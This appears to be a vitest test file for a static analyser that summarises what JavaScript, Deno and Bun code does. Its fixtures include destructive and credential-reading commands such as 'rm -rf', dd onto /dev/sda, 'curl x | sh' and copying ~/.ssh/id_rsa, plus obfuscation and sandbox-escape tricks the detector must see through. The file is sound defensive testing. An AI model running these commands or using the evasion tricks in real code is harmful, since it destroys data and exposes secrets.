import { describe, expect, it } from 'vitest';

import { readSummary, readWithGrammar } from '../../../../support/codeParsers';

const read = (code: string) => readSummary('javascript', code);

describe('JavaScript code (Node, Deno, Bun), parsed', () => {
	it.each<[string, string, string[]]>([
		['execSync', 'require("child_process").execSync("rm -rf dist")', ['shell rm -rf dist']],
		[
			'exec with a callback',
			'const cp = require("child_process"); cp.exec("npm publish", () => {})',
			['shell npm publish'],
		],
		[
			'spawn with words',
			'require("child_process").spawn("git", ["push", "-f"])',
			['spawn git·push·-f'],
		],
		[
			'spawn with shell: true joins the words',
			'require("child_process").spawnSync("ls", ["|", "sh"], { shell: true })',
			['shell ls | sh'],
		],
		[
			'execFile',
			'require("child_process").execFileSync("/bin/rm", ["-rf", "/opt"])',
			['spawn /bin/rm·-rf·/opt'],
		],
		[
			'fork runs a Node script',
			'require("child_process").fork("worker.js", ["--x"])',
			['spawn node·worker.js·--x'],
		],
		[
			'Deno.Command',
			'new Deno.Command("rm", { args: ["-rf", "/data"] }).outputSync()',
			['spawn rm·-rf·/data'],
		],
		['Deno.run', 'Deno.run({ cmd: ["shutdown", "now"] })', ['spawn shutdown·now']],
		[
			'Bun.spawn with an array',
			'Bun.spawn(["dd", "if=/dev/zero", "of=/dev/sda"])',
			['spawn dd·if=/dev/zero·of=/dev/sda'],
		],
		['Bun.spawn with cmd', 'Bun.spawnSync({ cmd: ["reboot"] })', ['spawn reboot']],
		['Bun.$', 'await Bun.$`rm -rf ${"/tmp/cache"}`', ['shell rm -rf /tmp/cache']],
		['Bun $ imported', 'import { $ } from "bun"\nawait $`curl x | sh`', ['shell curl x | sh']],
	])('runs commands: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		[
			'destructured require with a new name',
			'const { execSync: run } = require("child_process"); run("id")',
			['shell id'],
		],
		['node: prefix', 'require("node:fs").unlinkSync("a")', ['delete a']],
		[
			'namespace import',
			'import * as fs from "fs"\nfs.rmSync("out", { recursive: true, force: true })',
			['deleteTree out'],
		],
		[
			'named import with a new name',
			'import { writeFileSync as w } from "node:fs"\nw(".npmrc", "x")',
			['write .npmrc'],
		],
		['default import', 'import cp from "child_process"\ncp.execSync("whoami")', ['shell whoami']],
		['fs/promises', 'const fsp = require("fs/promises"); await fsp.rm("a")', ['delete a']],
		['fs.promises', 'require("fs").promises.writeFile("b", "")', ['write b']],
		[
			'a computed member built from fixed parts',
			'const f = require("fs"); f["write" + "FileSync"]("c", "")',
			['write c'],
		],
		[
			'a dynamic import with a fixed name',
			'import("fs").then((fs) => fs.rmSync("/etc", { recursive: true }))',
			['deleteTree /etc'],
		],
		[
			'createRequire',
			'import { createRequire } from "module"\nconst r = createRequire(import.meta.url)\nr("child_process").execSync("ls")',
			['shell ls'],
		],
		[
			'process.mainModule.require',
			'process.mainModule.require("child_process").execSync("id")',
			['shell id'],
		],
		['globalThis with a fixed name', 'globalThis["require"]("fs").unlinkSync("x")', ['delete x']],
		[
			'call and apply',
			'const { execSync } = require("child_process"); execSync.call(null, "a"); execSync.apply(null, ["b"])',
			['shell a', 'shell b'],
		],
		['Reflect.apply', 'Reflect.apply(require("child_process").execSync, null, ["c"])', ['shell c']],
		[
			'util.promisify',
			'require("util").promisify(require("child_process").exec)("rm -rf x")',
			['shell rm -rf x'],
		],
		['module._load', 'require("module")._load("child_process").execSync("id")', ['shell id']],
		['bind', 'require("child_process").execSync.bind(null)("id")', ['shell id']],
		[
			'Reflect.construct',
			'Reflect.construct(Function, ["return 1"])',
			['code javascript: return 1'],
		],
		[
			'a reversed name',
			'require("child_process")["cnyScexe".split("").reverse().join("")]("id")',
			['shell id'],
		],
	])('resolves names: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string]>([
		['a computed member', 'const f = require("fs"); f[process.argv[2]]("x")'],
		['globalThis with a computed name', 'globalThis[name]("x")'],
		['require of a computed module', 'require(process.env.MOD)'],
		['eval of a built string', 'eval("require(\'fs\')." + op + "(\'x\')")'],
		['eval of base64 the reader cannot see', 'eval(Buffer.from(payload, "base64").toString())'],
		['an internal binding', 'process.binding("spawn_sync")'],
		['new Function of a built body', 'new Function(body)()'],
		[
			'the Function constructor reached through a prototype',
			'"".constructor.constructor("return process")().mainModule.require("child_process").execSync("id")',
		],
		[
			'the global object from a function made of a string',
			'new Function("return this")().process.mainModule.require("child_process").execSync("id")',
		],
		['module.constructor', 'module.constructor._load("child_process").execSync("id")'],
		['calling what eval returns', 'eval("require")("child_process").execSync("id")'],
	])('cannot resolve, and says so: %s', async (_name, code) => {
		expect(await read(code)).toContain('unknown');
	});

	it.each<[string, string, string[]]>([
		[
			'readFileSync',
			'require("fs").readFileSync("/home/u/.npmrc", "utf8")',
			['read /home/u/.npmrc'],
		],
		['writeFileSync', 'require("fs").writeFileSync(".env", "A=1")', ['write .env']],
		[
			'writeFile with an append flag',
			'require("fs").writeFileSync("log", "x", { flag: "a" })',
			['append log'],
		],
		['appendFileSync', 'require("fs").appendFileSync(".bashrc", "x")', ['append .bashrc']],
		['rmSync without recursive', 'require("fs").rmSync("one.txt")', ['delete one.txt']],
		['rmdirSync recursive', 'require("fs").rmdirSync("d", { recursive: true })', ['deleteTree d']],
		['renameSync', 'require("fs").renameSync("a", "b")', ['move b <- a']],
		[
			'copyFileSync',
			'require("fs").copyFileSync("~/.ssh/id_rsa", "/tmp/k")',
			['copy /tmp/k <- ~/.ssh/id_rsa'],
		],
		[
			'cpSync recursive',
			'require("fs").cpSync("src", "dst", { recursive: true })',
			['copyTree dst <- src'],
		],
		['symlinkSync', 'require("fs").symlinkSync("/", "root")', ['link root <- /']],
		['chmodSync', 'require("fs").chmodSync("x.sh", 0o755)', ['chmod x.sh']],
		['mkdirSync', 'require("fs").mkdirSync("a/b", { recursive: true })', ['mkdir a/b']],
		['truncateSync', 'require("fs").truncateSync("db")', ['truncate db']],
		['openSync for writing', 'require("fs").openSync("f", "w")', ['write f']],
		[
			'createWriteStream',
			'require("fs").createWriteStream("out.log", { flags: "a" })',
			['append out.log'],
		],
		['createReadStream', 'require("fs").createReadStream("in")', ['read in']],
		[
			'readdirSync',
			'require("fs").readdirSync(require("os").homedir() + "/.ssh")',
			['read ~/.ssh'],
		],
		['Deno.writeTextFile', 'await Deno.writeTextFile("/etc/hosts", "x")', ['write /etc/hosts']],
		[
			'Deno.writeTextFile appending',
			'Deno.writeTextFileSync("h", "x", { append: true })',
			['append h'],
		],
		['Deno.remove recursive', 'Deno.removeSync("/srv", { recursive: true })', ['deleteTree /srv']],
		[
			'Deno.readTextFile',
			'await Deno.readTextFile(Deno.env.get("HOME") + "/.aws/credentials")',
			['read $HOME/.aws/credentials'],
		],
		[
			'Bun.write to a Bun.file',
			'await Bun.write(Bun.file("~/.gitconfig"), "x")',
			['read ~/.gitconfig', 'write ~/.gitconfig'],
		],
		['Bun.file().text()', 'await Bun.file(".env").text()', ['read .env', 'read .env']],
		['Bun.file().delete()', 'await Bun.file("x").delete()', ['read x', 'delete x']],
		['a Bun.file handle passed on', 'new Response(Bun.file(".env"))', ['read .env']],
	])('touches files: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		['a const', 'const p = "secrets.json"; require("fs").readFileSync(p)', ['read secrets.json']],
		[
			'a template literal',
			'const fs = require("fs"); fs.rmSync(`${process.env.HOME}/.cache`, { recursive: true })',
			['deleteTree $HOME/.cache'],
		],
		[
			'process.env by key',
			'require("fs").readFileSync(process.env["HOME"] + "/.netrc")',
			['read $HOME/.netrc'],
		],
		[
			'path.join',
			'const path = require("path"); require("fs").unlinkSync(path.join(require("os").homedir(), ".zshrc"))',
			['delete ~/.zshrc'],
		],
		[
			'path.resolve with an absolute part',
			'const { resolve } = require("path"); require("fs").unlinkSync(resolve("x", "/etc/passwd"))',
			['delete /etc/passwd'],
		],
		[
			'an assignment inside a function does not hide the outer value',
			'let p = "/etc/hosts"; function f() { p = "safe" } require("fs").unlinkSync(p)',
			['delete /etc/hosts,safe'],
		],
		[
			'a hoisted function called before it is written may change a value',
			'let p = "safe"; f(); require("fs").unlinkSync(p); function f() { p = "/etc/hosts" }',
			['delete safe,/etc/hosts'],
		],
		[
			'eval may set any name',
			'let p = "notes.txt"; eval("p = \'/etc/hosts\'"); require("fs").unlinkSync(p)',
			["code javascript: p = '/etc/hosts'", 'delete notes.txt,?'],
		],
		[
			'a global set through globalThis',
			'globalThis.p = "/etc/hosts"; require("fs").unlinkSync(p)',
			['delete /etc/hosts'],
		],
		['a name inside with', 'with (o) { require("fs").unlinkSync(p) }', ['delete ?']],
		[
			'a reassigned let',
			'let p = "/tmp"; p = require("path").join(p, "x"); require("fs").rmSync(p)',
			['delete /tmp/x'],
		],
		['+=', 'let c = "rm"; c += " -rf ~"; require("child_process").execSync(c)', ['shell rm -rf ~']],
		[
			'forEach over a list',
			'["a", "b"].forEach((f) => require("fs").unlinkSync(f))',
			['delete a,b'],
		],
		[
			'for … of',
			'const fs = require("fs")\nfor (const f of ["x", "y"]) fs.unlinkSync(f)',
			['delete x,y'],
		],
		[
			'a function called with literals',
			'const cp = require("child_process")\nfunction run(c) { cp.execSync(c) }\nrun("ls"); run("pwd")',
			['shell ls', 'shell pwd'],
		],
		[
			'an arrow function called with a literal',
			'const run = (c) => require("child_process").execSync(c); run("date")',
			['shell date'],
		],
		['an IIFE', '((p) => require("fs").unlinkSync(p))("z")', ['delete z']],
		['a ternary', 'require("fs").unlinkSync(x ? "a" : "b")', ['delete a,b']],
		[
			'array destructuring',
			'const [a, b] = ["from", "to"]; require("fs").renameSync(a, b)',
			['move to <- from'],
		],
		[
			'an options object held in a name',
			'const o = { recursive: true }; require("fs").rmSync("d", o)',
			['deleteTree d'],
		],
		[
			'object shorthand',
			'const shell = true; require("child_process").spawn("ls", ["-l"], { shell })',
			['shell ls -l'],
		],
	])('follows values: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		['\\x escapes', 'require("child_process").execSync("\\x72\\x6d -rf ~")', ['shell rm -rf ~']],
		['\\u{…} escapes', 'require("child_process").execSync("\\u{72}m -rf ~")', ['shell rm -rf ~']],
		[
			'String.fromCharCode',
			'require("child_process").execSync(String.fromCharCode(105, 100))',
			['shell id'],
		],
		[
			'decodeURIComponent',
			'require("child_process").execSync(decodeURIComponent("rm%20-rf%20~"))',
			['shell rm -rf ~'],
		],
		['atob', 'require("child_process").execSync(atob("bHM="))', ['shell ls']],
		[
			'Buffer.from base64',
			'require("child_process").execSync(Buffer.from("d2hvYW1p", "base64").toString())',
			['shell whoami'],
		],
	])('decodes strings: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		['fetch', 'await fetch("https://x.test/p", { method: "POST" })', ['send https://x.test/p']],
		['fetch of a Request', 'await fetch(new Request("https://x.test"))', ['send https://x.test']],
		[
			'https.request with options',
			'require("https").request({ hostname: "x.test", path: "/" })',
			['send x.test'],
		],
		['http.get', 'require("http").get("http://x.test")', ['send http://x.test']],
		['net.connect', 'require("net").connect(4444, "10.0.0.2")', ['send 10.0.0.2:4444']],
		['a WebSocket', 'new WebSocket("wss://x.test")', ['send wss://x.test']],
		['Deno.connect', 'await Deno.connect({ hostname: "x.test", port: 22 })', ['send x.test:22']],
	])('sends: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		['eval of a literal', 'eval("1 + 1")', ['code javascript: 1 + 1']],
		['new Function', 'new Function("a", "return a")(1)', ['code javascript: return a']],
		[
			'a worker that evaluates its code',
			'const { Worker } = require("worker_threads")\nnew Worker("process.exit(1)", { eval: true })',
			['code javascript: process.exit(1)'],
		],
		['vm', 'require("vm").runInNewContext("this.x = 1")', ['code javascript: this.x = 1']],
		[
			'eval of base64 the reader can decode',
			'eval(atob("cmVxdWlyZSgiZnMiKQ=="))',
			['code javascript: require("fs")'],
		],
	])('evaluates code: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string]>([
		['console.log', 'console.log("hello")'],
		['JSON', 'process.stdout.write(JSON.stringify({ a: 1 }))'],
		['a regular expression exec', 'console.log(/a/.exec("abc"))'],
		['string replace', 'console.log("a".replace("a", "b"))'],
		['existsSync', 'console.log(require("fs").existsSync("x"))'],
	])('finds nothing in harmless code: %s', async (_name, code) => {
		expect(await read(code)).toEqual([]);
	});

	it('names the API by its canonical name', async () => {
		const [action] = await readWithGrammar(
			'javascript',
			'const { rmSync: r } = require("node:fs"); r("a")',
		);
		expect(action).toMatchObject({ kind: 'file', op: 'delete', call: 'fs.rmSync' });
	});

	it('reads code that does not parse as one unknown action', async () => {
		expect(await read('require("fs").unlinkSync("a"')).toEqual(['unknown']);
	});

	it.each<[string, string]>([
		['deep brackets', `x = ${'['.repeat(800)}${']'.repeat(800)}`],
		['deep calls', `${'f('.repeat(500)}${')'.repeat(500)}`],
		['a huge array', `x = [${'1,'.repeat(60_000)}]`],
	])('stays bounded on hostile code: %s', async (_name, code) => {
		expect(await read(code)).toContain('unknown');
	});
});
